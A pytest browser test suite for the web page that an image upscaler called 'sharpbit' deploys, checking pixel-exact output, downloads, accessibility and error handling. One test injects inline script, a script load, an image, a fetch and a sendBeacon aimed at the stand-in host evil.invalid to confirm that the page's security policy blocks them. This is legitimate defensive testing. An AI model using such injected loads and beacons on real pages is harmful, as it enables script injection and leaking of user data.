"""The page that `deploy --to web` writes, in a real browser, from a disk: what it makes is what Python makes.

SHARPBIT_SCREENSHOTS=docs/images makes the images of docs/use/web.md again.
"""

import io
import re
import zipfile

import numpy as np
import pytest
from browsing import DEMO, TIMEOUT, accessible, add, done, drawn, shot, sums, sync_api, until
from PIL import Image
from serving import ROOT, picture

import integer_graphs
import sharpbit
from sharpbit.errors import UsageError
from sharpbit.modelfile import Header
from sharpbit.modelfile.integer_graph_payload import native_file
from sharpbit.runtime import native

pytestmark = [
    pytest.mark.slow,  # a browser starts
    pytest.mark.skipif(not native.available(), reason=native.why_not()),
]


@pytest.fixture(scope="module")
def address(tmp_path_factory):
    folder = tmp_path_factory.mktemp("web") / "page"
    sharpbit.deploy(None, "web", folder)
    return (folder / "index.html").as_uri()


def result(page, name=None):
    """The result that is shown, downloaded."""
    with page.expect_download() as download:
        page.locator("#download").click()
    assert name is None or download.value.suggested_filename == name
    return Image.open(download.value.path())


def numbers(image):
    return np.asarray(image).astype(int)


def saved(path, pixels, **options):
    Image.fromarray(pixels).save(path, **options)
    return path


def test_by_keyboard_from_a_disk_it_gives_exactly_what_python_gives(visit):
    page = visit(viewport={"width": 1280, "height": 820})
    accessible(page)
    add(page, DEMO)
    done(page)
    sync_api.expect(page.get_by_role("status")).to_have_text("demo.png is done: 624 × 416 pixels")
    panel = page.get_by_role("complementary")
    sync_api.expect(panel).to_contain_text("sharp and hardly compressed")
    sync_api.expect(panel).to_contain_text("x2-clean-balanced")
    accessible(page)
    shot(page, "web-light")
    link = page.get_by_role("link", name="Download demo_x2.png")
    link.focus()
    with page.expect_download() as download:
        page.keyboard.press("Enter")
    wanted = sharpbit.upscale(np.asarray(Image.open(DEMO).convert("RGB")), scale=2)
    assert np.array_equal(numbers(Image.open(download.value.path())), wanted)

    slider = page.get_by_role("slider", name="Divider between both sides")
    slider.focus()
    page.keyboard.press("End")
    before = drawn(page)
    page.get_by_role("radio", name="Before").focus()
    page.keyboard.press("ArrowRight")
    until(page, "!!document.querySelector('sharpbit-compare').layers[0].whole")
    assert drawn(page) != before
    sync_api.expect(slider).to_have_attribute("aria-valuetext", "100 % Bicubic, the rest After")


def test_models_factors_formats_and_all_in_an_archive(visit, tmp_path):
    page = visit()
    pixels = sums(70, 90, 3)
    add(page, saved(tmp_path / "a.png", pixels))
    done(page, "a.png")
    page.get_by_label("Model").select_option("art")
    page.get_by_label("Factor").select_option("3")
    page.get_by_role("button", name="Upscale this image again").click()
    page.get_by_role("link", name="Download a_x3.png").wait_for(timeout=TIMEOUT)
    wanted = sharpbit.upscale(pixels, model="x3-art-balanced")
    assert np.array_equal(numbers(result(page, "a_x3.png")), wanted)
    page.get_by_label("Format").select_option("webp")
    page.get_by_role("button", name="Upscale this image again").click()
    page.get_by_role("link", name="Download a_x3.webp").wait_for(timeout=TIMEOUT)
    assert np.abs(numbers(result(page)) - wanted).mean() < 16  # lossy
    page.get_by_role("button", name="Upscale this image again").click()
    page.get_by_text("4 of 4 done").wait_for(timeout=TIMEOUT)
    with page.expect_download() as download:
        page.get_by_role("link", name="Download all").click()
    with zipfile.ZipFile(download.value.path()) as archive:
        assert archive.testzip() is None
        assert archive.namelist() == ["a_x2.png", "a_x3.png", "a_x3.webp", "a_x3-2.webp"]
        assert np.array_equal(numbers(Image.open(io.BytesIO(archive.read("a_x3.png")))), wanted)
    page.get_by_role("button", name="Remove all").click()
    page.get_by_text("Drop images here").wait_for()


def test_transparency_and_grey(visit, tmp_path):
    """A browser keeps the colours of what is hardly seen less exactly; those of a grey image stay grey."""
    alpha = np.full((40, 50), 255, np.uint8)
    alpha[:, :20], alpha[:, 20:24] = 0, 128
    rgba = np.dstack([sums(40, 50, 3), alpha])
    rgba[alpha == 0] = 0
    page = visit()
    page.get_by_label("Model").select_option("photo")
    add(page, saved(tmp_path / "clear.png", rgba))
    done(page, "clear.png")
    made, wanted = numbers(result(page)), sharpbit.upscale(rgba, model="x2-photo-balanced").astype(int)
    assert np.abs(made[..., 3] - wanted[..., 3]).max() <= 1
    assert np.array_equal(made[:, 64:, :3], wanted[:, 64:, :3])
    grey = sums(40, 50)
    add(page, saved(tmp_path / "grey.png", grey))
    done(page, "grey.png")
    made = numbers(result(page))
    assert np.abs(made - sharpbit.upscale(grey, model="x2-photo-balanced").astype(int)[..., None]).max() <= 1


def test_cancel_a_wrong_file_and_one_that_is_too_large(visit, tmp_path):
    page = visit()
    add(
        page,
        saved(tmp_path / "long.png", sums(900, 900, 3)),
        ROOT / "README.md",
        saved(tmp_path / "wide.png", sums(2, 8200, 3)),
    )
    until(page, "document.querySelector('.frame.running progress')?.value > 0")
    page.get_by_role("button", name="Cancel long.png").click()
    page.get_by_text("README.md is not an image that this browser can read").first.wait_for(timeout=TIMEOUT)
    page.get_by_text(re.compile("the result would have 16400 × 4 pixels")).first.wait_for(timeout=TIMEOUT)
    accessible(page)
    page.get_by_role("button", name="Dismiss the message").click()
    assert page.get_by_role("listitem").count() == 2
    add(page, DEMO)  # it still works
    page.get_by_text("1 of 3 done").wait_for(timeout=TIMEOUT)


def test_a_phone_in_the_dark(visit):
    page = visit(viewport={"width": 390, "height": 844}, color_scheme="dark", device_scale_factor=2, has_touch=True)
    add(page, DEMO)
    done(page)
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    background = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert sum(map(int, re.findall(r"\d+", background))) < 150
    accessible(page)
    shot(page, "web-phone", full_page=True)


def test_a_graph_of_ones_own_and_no_choice_of_models(visit, tmp_path):
    graph = integer_graphs.residual()
    path = tmp_path / "mine.sharpbit"
    path.write_bytes(native_file(graph, Header("mine", "graph", {}, 2, 1, 0, "int8"))[1])
    folder = tmp_path / "page"
    sharpbit.deploy(path, "web", folder)
    page = visit((folder / "index.html").as_uri())
    assert page.get_by_label("Model").is_hidden() and page.get_by_label("Factor").is_hidden()
    pixels = sums(150, 170, 3)  # four tiles, whose seams nobody sees
    add(page, saved(tmp_path / "a.png", pixels))
    done(page, "a.png")
    halo = graph.halo
    mirrored = np.pad(pixels, [(halo, halo), (halo, halo), (0, 0)], "symmetric")
    edge = slice(halo * 2, -halo * 2)
    assert np.array_equal(numbers(result(page)), native.NativeRuntime(graph).run(mirrored)[edge, edge])


def test_nothing_else_runs_and_nothing_is_sent(browser, address):
    """What somebody would put into the page is against its policy."""
    page = browser.new_page()
    page.goto(address)
    tried = page.evaluate("""async () => {
        const refused = [];
        document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
        const add = (kind, facts) => document.body.append(Object.assign(document.createElement(kind), facts));
        add("script", {textContent: "window.evil = 1"});
        add("script", {src: "https://evil.invalid/a.js"});
        add("img", {src: "https://evil.invalid/a.png"});
        add("style", {textContent: "body { color: red }"});
        await fetch("https://evil.invalid/").catch(() => refused.push("caught"));
        navigator.sendBeacon("https://evil.invalid/");
        await new Promise((resolve) => setTimeout(resolve, 200));
        return [window.evil, refused.sort()];
    }""")
    page.close()
    assert tried[0] is None
    assert {"caught", "connect-src", "img-src", "script-src-elem", "style-src-elem"} == set(tried[1])


def test_what_is_in_float_or_sees_too_much_is_refused(tmp_path):
    with pytest.raises(UsageError, match="is in float"):
        sharpbit.deploy("x2-clean-float", "web", tmp_path / "a")
    path = tmp_path / "dense.sharpbit"
    path.write_bytes(native_file(integer_graphs.dense(), Header("dense", "graph", {}, 2, 1, 0, "int8"))[1])
    with pytest.raises(UsageError, match="cuts images into tiles; --to c takes it as it is"):
        sharpbit.deploy(path, "web", tmp_path / "b")
    with pytest.raises(UsageError, match="--to onnx takes one model"):
        sharpbit.deploy(None, "onnx", tmp_path / "c")


def test_an_image_smaller_than_what_a_pixel_sees(visit, tmp_path):
    (tmp_path / "p.png").write_bytes(picture(3, 2))
    page = visit()
    add(page, tmp_path / "p.png")
    done(page, "p.png")
    pixels = np.asarray(Image.open(tmp_path / "p.png").convert("RGB"))
    assert np.array_equal(numbers(result(page, "p_x2.png")), sharpbit.upscale(pixels, scale=2))
